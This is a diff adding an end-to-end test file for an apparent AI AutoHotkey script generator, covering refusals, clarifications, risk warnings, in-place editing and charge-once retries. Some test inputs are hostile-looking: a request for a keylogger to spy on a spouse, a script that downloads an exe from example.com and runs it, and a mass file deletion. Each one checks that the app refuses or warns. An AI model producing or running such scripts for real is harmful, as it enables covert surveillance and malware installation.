@@ -1,0 +1,135 @@
+import { expect, test } from 'vitest';
+import { useBrowser } from './support/chromium.ts';
+import { useProduct } from './support/product.ts';
+import { toast } from './support/screen.ts';
+import { descriptionBox, generate, newUserPage, resultCard, shownScript } from './support/script-screen.ts';
+
+const product = useProduct();
+const browser = useBrowser();
+
+test('a harmful request is refused calmly and costs nothing', async () => {
+  const page = await newUserPage(product, browser, 'refused@example.com', { plan: { plan: 'free' } });
+  await generate(page, 'make a keylogger that records what my wife types');
+  await page.getByRole('heading', { name: 'No script for this one' }).waitFor();
+  await page.getByText('This did not use up a generation.').waitFor();
+  expect(await toast(page, 'Error').count()).toBe(0);
+  expect(await resultCard(page).count()).toBe(0);
+  await page.reload();
+  await page.getByText('0 of 3 free script generations used').waitFor();
+});
+
+test('an unclear request offers others to click, which fill the box', async () => {
+  const page = await newUserPage(product, browser, 'unclear@example.com', { plan: { plan: 'free' } });
+  await generate(page, 'do stuff');
+  await page.getByRole('heading', { name: 'A little more, please' }).waitFor();
+  const suggestions = page.getByRole('list', { name: 'Did you mean' }).getByRole('button');
+  const first = await suggestions.first().innerText();
+  await suggestions.first().click();
+  expect(await descriptionBox(page).inputValue()).toBe(first);
+  await page.getByRole('heading', { name: 'A little more, please' }).waitFor({ state: 'detached' });
+});
+
+test('what is out of scope is declined calmly', async () => {
+  const page = await newUserPage(product, browser, 'scope@example.com');
+  await generate(page, 'write me a poem');
+  await page.getByRole('heading', { name: 'Not a task for a script' }).waitFor();
+});
+
+test('what was assumed and what is risky is said before the code', async () => {
+  const page = await newUserPage(product, browser, 'risky@example.com');
+  await generate(page, 'Every 30 minutes, remind me to drink water');
+  await resultCard(page).getByRole('heading', { name: 'Assumed' }).waitFor();
+  await generate(page, 'Delete all files in C:\\Temp when I press F9');
+  const warnings = resultCard(page).getByRole('list', { name: 'Warnings' });
+  await warnings.getByText('Deletes many files or a whole folder at once').waitFor();
+  await resultCard(page).getByText('deletes files or folders').waitFor();
+});
+
+test('the code is edited in place: mistakes are named while typing, and fixed with a click', async () => {
+  const page = await newUserPage(product, browser, 'edits@example.com');
+  await generate(page, 'Ctrl+Alt+N opens Notepad');
+  await page.getByRole('button', { name: 'Edit code' }).click();
+  const editor = page.getByLabel('Script', { exact: true });
+  const original = await editor.inputValue();
+  await page.getByText('No problems found.').waitFor();
+  await editor.focus();
+  await page.keyboard.press('Control+End');
+  await page.keyboard.type('F9::MsgBox hello\nF10::Send("a"\n');
+  await page.getByText('Has Errors').waitFor();
+  await page.getByText(/problems found\. AutoHotkey will not run the script until the errors are gone\./).waitFor();
+  await page.getByRole('button', { name: 'Put it in quotes' }).click();
+  await expect.poll(() => editor.inputValue()).toContain('F9::MsgBox "hello"');
+  const last = page.getByRole('button', { name: /^Line \d+$/ }).last();
+  const line = Number((await last.innerText()).replace('Line ', ''));
+  await last.click();
+  const selectedLine = await editor.evaluate((box) => {
+    const { value, selectionStart } = box as HTMLTextAreaElement;
+    return value.slice(0, selectionStart).split('\n').length;
+  });
+  expect(selectedLine).toBe(line);
+  await editor.fill((await editor.inputValue()).replace('Send("a"', 'Send("a")'));
+  await resultCard(page).getByText('Ready to Use', { exact: true }).waitFor();
+  await resultCard(page).getByText('When you press F9: shows the message “hello”.').waitFor();
+  await resultCard(page).getByText('shows messages or windows').waitFor();
+  await page.getByRole('button', { name: 'Undo my changes' }).click();
+  expect(await editor.inputValue()).toBe(original);
+  await page.getByRole('button', { name: 'Done' }).click();
+  expect((await shownScript(page)).trim()).toBe(original.trim());
+});
+
+test('an edit that makes a script dangerous is told as such', async () => {
+  const page = await newUserPage(product, browser, 'danger@example.com');
+  await generate(page, 'Ctrl+Alt+N opens Notepad');
+  await page.getByRole('button', { name: 'Edit code' }).click();
+  await page
+    .getByLabel('Script', { exact: true })
+    .fill('F1:: {\n    Download("https://example.com/a.exe", "a.exe")\n    Run("a.exe")\n}\n');
+  await resultCard(page).getByText('Downloads a program and runs it without asking.').waitFor();
+});
+
+test('the editor shows its colours right under its own letters', async () => {
+  const page = await newUserPage(product, browser, 'layers@example.com');
+  await generate(page, 'Ctrl+Alt+N opens Notepad');
+  await page.getByRole('button', { name: 'Edit code' }).click();
+  const editor = page.getByLabel('Script', { exact: true });
+  await editor.fill(`F1::MsgBox("${'wide '.repeat(80)}")\n${'; tab\there\n'.repeat(60)}; שלום 🎉`);
+  const sizes = await editor.evaluate((box) => {
+    const layer = box.previousElementSibling as HTMLElement;
+    const [a, b] = [box, layer].map((element) => element.getBoundingClientRect());
+    return {
+      offsets: [(a?.left ?? 0) - (b?.left ?? 1), (a?.top ?? 0) - (b?.top ?? 1)],
+      scrolls: [box.scrollWidth - box.clientWidth, box.scrollHeight - box.clientHeight],
+    };
+  });
+  expect(sizes).toEqual({ offsets: [0, 0], scrolls: [0, 0] });
+});
+
+test('who loses the connection while generating tries again and is charged once', async () => {
+  const page = await newUserPage(product, browser, 'lost@example.com', {
+    plan: { plan: 'free' },
+    expectedErrors: /status of 502/,
+  });
+  const keys: (string | undefined)[] = [];
+  page.on('request', (request) => {
+    if (request.url().endsWith('/generate')) keys.push(request.headers()['idempotency-key']);
+  });
+  let lose = true;
+  await page.route('**/api/scripts/generate', async (route) => {
+    if (!lose) return route.continue();
+    lose = false;
+    const reply = await route.fetch();
+    expect(reply.status()).toBe(200);
+    // The server has answered and charged; the answer never arrives.
+    return route.fulfill({ status: 502, body: '' });
+  });
+  await generate(page, 'Ctrl+Alt+N opens Notepad');
+  await toast(page, 'The service is not available right now').waitFor();
+  await page.getByRole('button', { name: 'Generate Script' }).click();
+  await toast(page, 'Script generated!').waitFor();
+  await page.getByText('1 of 3 free script generations used').waitFor();
+  expect(keys[0]).toMatch(/^[\da-f]{32}$/);
+  expect(keys).toEqual([keys[0], keys[0]]);
+  await page.getByRole('button', { name: 'Generate Script' }).click();
+  await page.getByText('2 of 3 free script generations used').waitFor();
+  expect(keys[2]).not.toBe(keys[0]);
+});
